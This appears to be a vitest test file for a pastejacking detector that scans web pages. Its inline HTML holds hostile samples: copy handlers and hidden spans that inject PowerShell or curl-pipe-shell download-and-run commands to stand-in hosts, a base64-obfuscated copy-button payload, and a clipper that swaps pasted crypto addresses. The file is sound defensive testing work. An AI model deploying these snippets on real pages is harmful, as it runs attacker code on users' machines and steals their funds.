import { describe, expect, it } from 'vitest';

import { analyzePastejacking } from '../../src/engine/page/analyzers/pastejacking.js';
import { alarming, fixtureInput, fromPage, htmlInput } from '../helpers/analyzer-input.js';
import { BENIGN_FIXTURES, pageFixture } from '../helpers/page-fixtures.js';

/** Rule ids each corpus page must raise (all danger). */
const EXPECTED: Readonly<Record<string, readonly string[]>> = {
  'pastejacking-homebrew-clone': ['copy_event_hijack'],
  'pastejacking-python-blog-ja': ['hidden_code_command', 'copy_event_hijack'],
  'pastejacking-crypto-clipper': ['clipboard_clipper'],
  'pastejacking-express-hidden-span': ['hidden_code_command'],
};

function run(html: string, url = 'https://dev-notes.example-blog.net/install') {
  const { page } = htmlInput(html, url);
  return { page, findings: analyzePastejacking(page) };
}

const ids = (findings: readonly { level: string; id: string }[]): string[] =>
  findings.map((f) => `${f.level}:${f.id}`);

describe('analyzePastejacking on the corpus', () => {
  it.each(Object.entries(EXPECTED))('%s: %j', (id, rules) => {
    const fixture = pageFixture(id);
    const { page } = fixtureInput(fixture);
    const findings = analyzePastejacking(page);
    for (const rule of rules) {
      const finding = findings.find((f) => f.id === rule);
      expect(finding?.level, rule).toBe('danger');
      expect(finding?.evidence.length).toBeGreaterThan(8);
      const parts = finding?.evidence.split(' → ') ?? [];
      for (const part of parts) expect(fromPage(part, page), part).toBe(true);
    }
    const types = new Set(findings.flatMap((f) => f.threatTypes));
    for (const type of fixture.expect.threat_types) {
      if (type === 'pastejacking' || type === 'crypto_scam') expect(types).toContain(type);
    }
  });

  it.each(BENIGN_FIXTURES.map((f) => [f.id, f] as const))(
    '%s: no danger or caution finding',
    (_id, fixture) => {
      expect(alarming(analyzePastejacking(fixtureInput(fixture).page))).toEqual([]);
    },
  );
});

describe('analyzePastejacking rules', () => {
  const PAYLOAD = 'powershell -w h -nop -c iwr https://fix.invalid/a.ps1 | iex';

  it('reports a copy handler that swaps the selection for a command it does not show', () => {
    const { findings, page } = run(`<pre><code>pip install requests</code></pre><script>
      document.addEventListener('copy', function (e) { e.preventDefault();
        e.clipboardData.setData('text/plain', '${PAYLOAD}'); });</script>`);
    expect(ids(findings)).toEqual(['danger:copy_event_hijack']);
    expect(findings[0]?.threatTypes).toEqual(['pastejacking']);
    expect(fromPage(findings[0]?.evidence ?? '', page)).toBe(true);
  });

  it('ignores a copy handler that appends a "read more" link (allowed by the Clipboard API)', () => {
    const { findings } = run(`<p>An article.</p><script>
      document.addEventListener('copy', function (e) { e.preventDefault();
        e.clipboardData.setData('text/plain', String(getSelection()) + ' Read more: ' + location.href); });
      </script>`);
    expect(findings).toEqual([]);
  });

  it('needs the handler to replace the data: a command in a script without setData is not a hijack', () => {
    const { findings } = run(`<p>Docs</p><script>
      document.addEventListener('copy', function () { track('copy'); });
      var example = '${PAYLOAD}';</script>`);
    expect(findings).toEqual([]);
  });

  it('ignores a copy handler that sets the command the page displays', () => {
    const { findings } =
      run(`<pre><code>curl -fsSL https://tool.invalid/install.sh | sh</code></pre><script>
      document.addEventListener('copy', function (e) { e.preventDefault();
        e.clipboardData.setData('text/plain', 'curl -fsSL https://tool.invalid/install.sh | sh'); });
      </script>`);
    expect(findings).toEqual([]);
  });

  it('reads an oncopy attribute as a copy handler', () => {
    const { findings } = run(`<body oncopy="return swap(event)"><p>Text</p><script>
      function swap(e) { e.preventDefault(); e.clipboardData.setData('text/plain', '${PAYLOAD}'); return false; }
      </script></body>`);
    expect(ids(findings)).toEqual(['danger:copy_event_hijack']);
  });

  it('reports a command in a hidden span of a code block, not other hidden text', () => {
    const hidden = run(
      `<pre><code>npm install express<span style="position:absolute;left:-9999px">; curl -fsSL https://x.invalid/p.sh | sh</span></code></pre>`,
    );
    expect(ids(hidden.findings)).toEqual(['danger:hidden_code_command']);
    expect(hidden.findings[0]?.evidence).toBe('curl -fsSL https://x.invalid/p.sh | sh');

    const lineNumbers = run(
      `<pre><code><span style="display:none">1 2 3</span>npm install express</code></pre>`,
    );
    expect(lineNumbers.findings).toEqual([]);

    const wholeBlockHidden = run(
      `<div style="display:none"><pre><code>curl -fsSL https://x.invalid/p.sh | sh</code></pre></div>`,
    );
    expect(wholeBlockHidden.findings).toEqual([]);
  });

  it('reports a Copy button whose copied text is an obfuscated command other than the one shown', () => {
    const encoded = Buffer.from('curl -fsSL https://evil.invalid/x.sh | bash').toString('base64');
    const { findings } =
      run(`<pre><code>/bin/bash -c "$(curl -fsSL https://tool.invalid/install.sh)"</code></pre>
      <button id="c">Copy</button><script>document.getElementById('c').onclick = function () {
        navigator.clipboard.writeText('/bin/bash -c "$(echo ' + '${encoded}' + ' | base64 -d)"'); };</script>`);
    expect(ids(findings)).toEqual(['danger:copy_button_swap']);
    expect(findings[0]?.evidence).toBe('curl -fsSL https://evil.invalid/x.sh | bash');
  });

  it('does not report a Copy button that copies the displayed command', () => {
    const { findings } =
      run(`<pre><code>curl -fsSL https://tool.invalid/install.sh | sh</code></pre>
      <button id="c">Copy</button><script>document.getElementById('c').onclick = function () {
        navigator.clipboard.writeText(document.querySelector('code').textContent); };</script>`);
    expect(findings).toEqual([]);
  });

  it('reports a clipboard clipper that replaces address shapes with a fixed address', () => {
    const clipper = run(`<input id="to"><script>
      var mine = '0x7a3F9c2B41e8D05b6C1fA9e0D2b7C84E5f6a1B3c';
      document.addEventListener('paste', function (e) {
        var v = e.clipboardData.getData('text'); var r = v.replace(/0x[a-fA-F0-9]{40}/g, mine);
        if (r !== v) { e.preventDefault(); e.target.value = r; } });</script>`);
    expect(ids(clipper.findings)).toEqual(['danger:clipboard_clipper']);
    expect(clipper.findings[0]?.threatTypes).toEqual(['pastejacking', 'crypto_scam']);
    expect(clipper.findings[0]?.evidence).toContain('0x7a3F9c2B41e8D05b6C1fA9e0D2b7C84E5f6a1B3c');
  });

  it('does not report a wallet form that validates a pasted address (no fixed replacement)', () => {
    const { findings } = run(`<input id="to"><script>
      document.addEventListener('paste', function (e) {
        var v = e.clipboardData.getData('text').replace(/\\s+/g, '');
        if (!/^0x[a-fA-F0-9]{40}$/.test(v)) showError('Not an address'); });</script>`);
    expect(findings).toEqual([]);
  });
});
